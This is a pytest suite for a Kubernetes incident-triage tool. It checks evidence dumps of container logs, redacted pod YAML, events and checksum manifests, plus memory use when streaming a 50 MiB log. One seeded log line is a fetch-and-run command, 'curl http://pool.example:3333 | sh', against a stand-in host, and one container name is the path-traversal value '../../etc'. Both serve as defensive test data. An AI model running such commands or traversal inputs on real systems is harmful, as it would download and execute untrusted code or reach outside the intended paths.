"""Evidence dumps against the simulated cluster: every container, previous logs, YAML,
events, checksums, modes; and a 50 MiB log streamed with flat memory."""

from __future__ import annotations

import hashlib
import json
import os
import stat
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
import yaml
from test_actions_support import (
    engine_with_incident,
    make_service,
    seed_pod,
    unique,
)

from ktriage.actions import OK
from ktriage.actions.logs import log_streams
from ktriage.core.snapshot import render_markdown

pytestmark = pytest.mark.sim

TOKEN = "Bearer abcdefghijklmnopqrstuvwxyz0123456789"


def _seed_busy_pod(sim: Any, ns: str, pod: str) -> None:
    seed_pod(sim.store, ns, pod, node="n1", init=("setup",), containers=("app", "sidecar"))

    def add_env(obj: dict) -> None:
        obj["spec"]["containers"][0]["env"] = [{"name": "AUTH", "value": TOKEN}]

    sim.store.mutate("v1", "Pod", ns, pod, add_env)
    store = sim.store
    store.append_log(ns, pod, "setup", "migrations applied")
    for i in range(3):
        store.append_log(ns, pod, "app", f"first run {i}")
    store.set_container_state(
        ns, pod, "app", "terminated", reason="Error", exit_code=137, restart=True
    )
    store.set_container_state(ns, pod, "app", "running")
    store.append_log(ns, pod, "app", "second run: curl http://pool.example:3333 | sh")
    store.append_log(ns, pod, "sidecar", "proxy ready")

    # The sidecar claims a restart, but the kubelet kept no previous log for it.
    def sidecar_restarted(obj: dict) -> None:
        for cs in obj["status"]["containerStatuses"]:
            if cs["name"] == "sidecar":
                cs["restartCount"] = 1

    store.mutate("v1", "Pod", ns, pod, sidecar_restarted)
    store.apply(
        {
            "apiVersion": "v1",
            "kind": "Event",
            "metadata": {"name": f"{pod}.1", "namespace": ns},
            "involvedObject": {"kind": "Pod", "namespace": ns, "name": pod, "apiVersion": "v1"},
            "reason": "BackOff",
            "message": "Back-off restarting failed container app",
            "type": "Warning",
        }
    )


async def test_dump_every_container_yaml_events_and_checksums(sim: Any, tmp_path: Path) -> None:
    ns, pod = unique("shop"), unique("web")
    _seed_busy_pod(sim, ns, pod)
    engine, incident = engine_with_incident(ns, pod)
    snapshots = tmp_path / "snapshots"
    service = make_service(sim, engine, snapshots)
    try:
        plan = await service.prepare("l", incident, (ns, pod))
        names = [f.split("  ")[0].rsplit("/", 1)[-1] for f in plan.files]
        assert names == [
            "setup.log",
            "app.log",
            "app.previous.log",
            "sidecar.log",
            "sidecar.previous.log",
            "pod.yaml",
            "events.yaml",
            "SHA256SUMS",
        ]
        assert not snapshots.exists()  # the dry run wrote nothing

        progress: list[tuple[str, int]] = []
        outcome = await service.apply(plan, progress=lambda f, n, _t: progress.append((f, n)))
        assert outcome.result == OK, outcome.message
        assert outcome.error == ""  # the missing previous log is not an error
        assert "no previous log for 1 container" in outcome.message

        directory = Path(plan.state["directory"])
        assert directory.parent == snapshots / incident / "evidence"
        files = {p.name: p for p in directory.iterdir()}
        assert set(files) == {
            "setup.log",
            "app.log",
            "app.previous.log",
            "sidecar.log",
            "pod.yaml",
            "events.yaml",
            "SHA256SUMS",
        }
        assert files["setup.log"].read_text() == "migrations applied\n"
        assert files["app.previous.log"].read_text() == "first run 0\nfirst run 1\nfirst run 2\n"
        assert "pool.example" in files["app.log"].read_text()
        for path in files.values():
            assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
        for d in (directory, directory.parent, directory.parent.parent, snapshots):
            assert stat.S_IMODE(d.stat().st_mode) == 0o700, d

        pod_doc = yaml.safe_load(files["pod.yaml"].read_text())
        assert pod_doc["metadata"]["name"] == pod
        assert TOKEN not in files["pod.yaml"].read_text()
        assert "<redacted>" in files["pod.yaml"].read_text()
        events_doc = yaml.safe_load(files["events.yaml"].read_text())
        assert [e["reason"] for e in events_doc["items"]] == ["BackOff"]

        # sha256sum -c agrees with the manifest.
        check = subprocess.run(
            ["sha256sum", "-c", "SHA256SUMS"],
            cwd=directory,
            capture_output=True,
            text=True,
            check=False,
        )
        assert check.returncode == 0, check.stdout + check.stderr
        assert check.stdout.count(": OK") == 6

        # Progress was reported per file, growing.
        assert {f for f, _ in progress} >= {"app.log", "setup.log", "pod.yaml", "SHA256SUMS"}

        # The record lists every file with its checksum; the snapshot shows them.
        (event,) = [e for e in engine.correlator.events_of(incident) if e.source == "ktriage"]
        recorded = {Path(f["path"]).name: f for f in event.raw_inline["files"]}
        assert set(recorded) == set(files)
        for name, path in files.items():
            entry = recorded[name]
            assert entry["bytes"] == path.stat().st_size
            assert entry["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()
            assert (snapshots / entry["path"]).resolve() == path.resolve()
        markdown = render_markdown(engine.correlator.resolve(incident), [event])
        assert recorded["app.log"]["sha256"] in markdown
        assert not outcome.record.can_undo
    finally:
        service.close()


def test_streams_cover_init_ephemeral_and_previous() -> None:
    pod = {
        "spec": {
            "initContainers": [{"name": "init"}],
            "containers": [{"name": "a"}, {"name": "../../etc"}],
            "ephemeralContainers": [{"name": "debugger"}],
        },
        "status": {
            "initContainerStatuses": [{"name": "init", "restartCount": 0}],
            "containerStatuses": [
                {"name": "a", "restartCount": 0, "lastState": {"terminated": {"exitCode": 1}}},
                {"name": "../../etc", "restartCount": 2},
            ],
        },
    }
    streams = log_streams(pod)
    assert [(s.container, s.kind, s.previous, s.file) for s in streams] == [
        ("init", "init", False, "init.log"),
        ("a", "container", False, "a.log"),
        ("a", "container", True, "a.previous.log"),
        ("../../etc", "container", False, "_.._etc.log"),
        ("../../etc", "container", True, "_.._etc.previous.log"),
        ("debugger", "ephemeral", False, "debugger.log"),
    ]


# ---- a large log ---------------------------------------------------------------

LINE = 1023  # bytes per line before the newline: 51,200 lines make 50 MiB
LINES = 51_200

_DUMP_SCRIPT = """
import asyncio, json, sys, time, tracemalloc
from pathlib import Path
from ktriage.actions import ActionService, kubeconfig_factory

def vm(key):
    for line in open("/proc/self/status"):
        if line.startswith(key + ":"):
            return int(line.split()[1])  # KiB
    return 0

async def main():
    kubeconfig, snapshots, ns, pod = sys.argv[1:5]
    service = ActionService(None, kubeconfig_factory(kubeconfig, "sim-admin"), Path(snapshots))
    plan = await service.prepare("l", "INC-BIG", (ns, pod))
    calls = []
    tracemalloc.start()
    rss_before, hwm_before = vm("VmRSS"), vm("VmHWM")
    started = time.perf_counter()
    outcome = await service.apply(plan, progress=lambda f, n, t: calls.append(n))
    seconds = time.perf_counter() - started
    _current, peak = tracemalloc.get_traced_memory()
    print(json.dumps({
        "result": outcome.result, "message": outcome.message, "files": outcome.files,
        "seconds": seconds, "tracemalloc_peak": peak, "progress_calls": len(calls),
        "rss_before_kib": rss_before, "hwm_before_kib": hwm_before, "hwm_after_kib": vm("VmHWM"),
    }))
    service.close()

asyncio.run(main())
"""


def run_dump(sim: Any, snapshots: Path, ns: str, pod: str) -> dict[str, Any]:
    """Dump the pod's evidence in a separate process (so only the client's memory counts)."""
    done = subprocess.run(
        [sys.executable, "-c", _DUMP_SCRIPT, str(sim.kubeconfig_path), str(snapshots), ns, pod],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        env=dict(os.environ, PYTHONPATH=str(Path(__file__).resolve().parents[2])),
    )
    assert done.returncode == 0, done.stderr[-2000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


def test_fifty_mib_log_streams_with_flat_memory(sim: Any, tmp_path: Path) -> None:
    ns, pod = unique("big"), unique("miner")
    seed_pod(sim.store, ns, pod, node="n1", containers=("app",))
    expected = hashlib.sha256()
    started = time.perf_counter()
    for i in range(LINES):
        line = f"{i:08d} " + "x" * (LINE - 9)
        sim.store.append_log(ns, pod, "app", line)
        expected.update(line.encode() + b"\n")
    assert time.perf_counter() - started < 10

    stats = run_dump(sim, tmp_path / "snapshots", ns, pod)
    assert stats["result"] == "ok", stats["message"]
    (log,) = [f for f in stats["files"] if f["path"].endswith("app.log")]
    assert log["bytes"] == 50 * 1024 * 1024
    assert log["sha256"] == expected.hexdigest()
    # Streamed in 64 KiB chunks: about 800 progress calls for 50 MiB.
    assert stats["progress_calls"] > 700
    # Flat memory: Python allocations peak far below the log's size, and so does the
    # process's resident high-water mark.
    assert stats["tracemalloc_peak"] < 2 * 1024 * 1024, stats
    assert stats["hwm_after_kib"] - stats["hwm_before_kib"] < 12 * 1024, stats
    print(
        f"\n50 MiB log dump: {stats['seconds']:.2f} s, tracemalloc peak "
        f"{stats['tracemalloc_peak'] / 1024:.0f} KiB, RSS high-water +"
        f"{stats['hwm_after_kib'] - stats['hwm_before_kib']} KiB"
    )


async def test_cancelled_dump_stops_promptly(sim: Any, tmp_path: Path) -> None:
    """Quitting mid-dump: the task ends at once and the reading thread lets go."""
    import asyncio

    ns, pod = unique("big"), unique("slow")
    seed_pod(sim.store, ns, pod, node="n1", containers=("app",))
    for i in range(20_000):
        sim.store.append_log(ns, pod, "app", f"{i:08d} " + "y" * 1000)
    service = make_service(sim, None, tmp_path)
    try:
        plan = await service.prepare("l", "INC-C", (ns, pod))
        first_chunk = asyncio.Event()
        task = asyncio.create_task(service.apply(plan, progress=lambda *_: first_chunk.set()))
        await asyncio.wait_for(first_chunk.wait(), 10)
        task.cancel()
        started = time.monotonic()
        with pytest.raises(asyncio.CancelledError):
            await asyncio.wait_for(task, 5)
        # The dump waits for its reading thread before it ends: that thread let go too.
        assert time.monotonic() - started < 2.0
        # The partial log is kept (it is evidence) but no manifest claims it is complete;
        # a partial one holds the hashes of what was written, for `sha256sum -c`.
        directory = Path(plan.state["directory"])
        assert (directory / "app.log").exists()
        assert not (directory / "SHA256SUMS").exists()
        partial = directory / "SHA256SUMS.partial"
        assert partial.stat().st_mode & 0o777 == 0o600
        assert "  app.log\n" in partial.read_text()
        check = subprocess.run(
            ["sha256sum", "-c", partial.name], cwd=directory, capture_output=True, text=True
        )
        assert check.returncode == 0, check.stdout + check.stderr
        assert "app.log: OK" in check.stdout
    finally:
        service.close()
